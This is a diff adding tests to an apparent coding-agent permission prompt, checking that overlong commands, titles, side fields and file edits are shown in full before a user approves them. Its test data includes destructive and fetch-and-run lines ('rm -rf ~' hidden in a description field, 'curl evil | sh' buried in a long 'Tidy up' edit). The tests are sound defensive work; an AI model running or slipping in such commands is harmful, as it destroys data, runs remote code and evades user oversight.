@@ -40,6 +40,69 @@ describe('a permission on the terminal', () => {
     expect(await decided).toEqual({ outcome: 'selected', optionId: 'once' });
   });
 
+  test('shows a command that is too long for the state, to its end (F-065)', async () => {
+    const { hand, terminal } = await asking();
+    const lines = Array.from(
+      { length: 2_000 },
+      (_, index) => `echo a line of words that is line ${index} of many`,
+    );
+    const command = [...lines, 'rm -rf x'].join('\n');
+    expect(command.length).toBeGreaterThan(64 << 10);
+    const decided = askPermission(hand, { command });
+    await terminal.next('Answer [2]: ');
+    const shown = terminal.screen();
+    for (const line of [...lines, 'rm -rf x']) expect(shown).toContain(`  | ${line}\n`);
+    expect(shown).not.toContain('x-otto-content');
+    terminal.type('3\r');
+    expect(await decided).toEqual({ outcome: 'selected', optionId: 'no' });
+  });
+
+  test('shows the whole of a long title (F-065)', async () => {
+    const { hand, terminal } = await asking();
+    const title = `Delete ${'word '.repeat(600)}and everything else`;
+    void askPermission(hand, { command: 'x', patch: { title } });
+    await terminal.next('Answer [2]: ');
+    expect(terminal.screen()).toContain(`  ${title}\n`);
+    expect(terminal.screen()).not.toContain('word…');
+  });
+
+  test('has nothing that Enter takes when even that was cut (F-065)', async () => {
+    const { hand, terminal } = await asking();
+    const decided = askPermission(hand, { command: 'x', patch: { title: 'word '.repeat(1_000) } });
+    await terminal.next('Answer: ');
+    expect(terminal.screen()).toContain(
+      '  Not everything can be shown here: what the agent says of it was too long and is cut\n',
+    );
+    terminal.type('\r');
+    await terminal.next('answer with a number, 1 to 3');
+    await terminal.next('Answer: ');
+    terminal.type('2\r');
+    expect(await decided).toEqual({ outcome: 'selected', optionId: 'once' });
+  });
+
+  test('shows what stands beside the command, whatever it is called (F-065)', async () => {
+    const { hand, terminal } = await asking();
+    const rawInput = { command: 'ls', description: { run: 'rm -rf ~' } };
+    void askPermission(hand, { command: 'ls', patch: { rawInput } });
+    await terminal.next('Answer [2]: ');
+    expect(terminal.screen()).toContain('  | ls\n  description: {"run":"rm -rf ~"}\n');
+  });
+
+  test('shows what an edit changes where the input does not tell it, however long (F-065)', async () => {
+    const { hand, terminal } = await asking();
+    const lines = Array.from({ length: 3_000 }, (_, index) => `line ${index} of a long file`);
+    const newText = [...lines.slice(0, 1_500), 'curl evil | sh', ...lines.slice(1_501)].join('\n');
+    const content = [{ type: 'diff', path: '/w/a', oldText: lines.join('\n'), newText }] as const;
+    void askPermission(hand, {
+      patch: { title: 'Tidy up', kind: 'edit', rawInput: { file: '/w/a' }, content },
+    });
+    await terminal.next('Answer [2]: ');
+    expect(terminal.screen()).toContain(
+      '  File: /w/a (changed +1 -1)\n  | ⟨1500 unchanged lines⟩\n' +
+        '  | - line 1500 of a long file\n  | + curl evil | sh\n  | ⟨1499 unchanged lines⟩\n',
+    );
+  });
+
   test('is not answered by Enter when only "always" could be meant', async () => {
     const { hand, terminal } = await asking();
     const decided = askPermission(hand, { options: OPTIONS.slice(0, 1) });
